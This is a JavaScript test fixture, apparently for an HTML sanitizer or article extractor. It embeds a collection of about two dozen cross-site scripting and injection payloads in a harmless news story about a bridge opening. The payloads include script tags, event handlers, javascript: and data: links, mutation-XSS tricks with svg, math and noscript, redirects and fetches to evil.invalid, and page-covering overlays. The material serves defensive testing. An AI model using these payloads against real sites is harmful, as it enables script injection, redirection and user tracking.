// What a hostile text brings: markup that would run, fetch, lead away or cover the page.

/** A harmless story to put it in. */
export const STORY = "The council opened the bridge on Monday after two years of work. Traffic had used the old ferry since the flood. The mayor said that the toll would end in June. Many shops on the island had closed in the meantime. The ferry will keep one boat for the summer.";

/** One attack each; what runs sets `window.ran`, what is fetched is at evil.invalid. */
export const ATTACKS = [
  "<script>window.ran = 1</script>",
  "<img src=x onerror=\"window.ran = 1\">",
  "<svg onload=\"window.ran = 1\"><script>window.ran = 1</script></svg>",
  "<math><mtext><img src=x onerror=\"window.ran = 1\"></mtext></math>",
  "<a href=\"javascript:window.ran = 1\">a link that says something long enough to be kept</a>",
  "<base href=\"https://evil.invalid/\">",
  "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.invalid/\">",
  "<style>@import url(https://evil.invalid/a.css); body { background: url(https://evil.invalid/b.png) }</style>",
  "<p style=\"background: url(https://evil.invalid/c.png); position: fixed; inset: 0\">A paragraph that wants to cover the page.</p>",
  "<iframe src=\"https://evil.invalid/\" srcdoc=\"<script>parent.ran = 1</script>\"></iframe>",
  "<link rel=\"stylesheet\" href=\"https://evil.invalid/d.css\">",
  "<form action=\"https://evil.invalid/\"><input autofocus onfocus=\"window.ran = 1\"></form>",
  "<video poster=\"https://evil.invalid/e.png\"><source onerror=\"window.ran = 1\"></video>",
  "<template><script>window.ran = 1</script></template>",
  "<noscript><p title=\"</noscript><img src=x onerror=window.ran=1>\"></p></noscript>",
  "--><script>window.ran = 1</script><!--",
  "<svg><a xlink:href=\"javascript:window.ran = 1\"><text>A drawn link that says something.</text></a><use href=\"https://evil.invalid/f.svg#x\"/><animate onbegin=\"window.ran = 1\" attributeName=\"x\"/></svg>",
  "<svg><style><img src=x onerror=\"window.ran = 1\"></style><foreignObject><iframe src=\"javascript:parent.ran = 1\"></iframe></foreignObject></svg>",
  "<math href=\"javascript:window.ran = 1\"><maction actiontype=\"statusline#https://evil.invalid/\" xlink:href=\"javascript:window.ran = 1\">A formula</maction><annotation-xml encoding=\"text/html\"><script>window.ran = 1</script></annotation-xml></math>",
  "<math><mi><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=window.ran=1&gt;\"></table></mi></math>",
  "<details open ontoggle=\"window.ran = 1\"><summary>What it says</summary>A paragraph that unfolds by itself.</details>",
  "<object data=\"https://evil.invalid/g.swf\"></object><embed src=\"https://evil.invalid/h\"><img srcset=\"https://evil.invalid/i 2x\"><input type=\"image\" src=\"https://evil.invalid/j\">",
  "<a href=\"https://evil.invalid/\" ping=\"https://evil.invalid/ping\" target=\"_top\">A link that reports who follows it.</a>",
  "<body onload=\"window.ran = 1\"><frameset onload=\"window.ran = 1\"><marquee onstart=\"window.ran = 1\">A moving line.</marquee>",
  "<a href=\"jav&#x09;ascript:window.ran = 1\">A link with a tab in its scheme.</a><a href=\"data:text/html,<script>opener.ran=1</script>\">A link to data.</a>",
  "<dialog open style=\"position: fixed; inset: 0; z-index: 9999\">A dialog over everything.</dialog><div popover=\"auto\" id=\"panel\">A second panel.</div>",
];

export const PARAGRAPHS = STORY.split(". ").map((sentence) => `<p>${sentence}. ${STORY}</p>`).join("\n");
/** A plain text that holds them all, each between sentences of an article. */
export const HOSTILE_TEXT = `A bridge opens\n\n${ATTACKS.map((attack) => `${STORY} ${attack} And so it went on for a while.`).join("\n\n")}`;

/** A page that holds them all around and inside an article, its title among them. */
export const HOSTILE_PAGE = `<!doctype html><html><head><title>A bridge &lt;img src=x onerror=window.ran=1&gt; opens</title></head><body><article><h1>A bridge opens</h1>${PARAGRAPHS}${ATTACKS.join("\n")}</article></body></html>`;
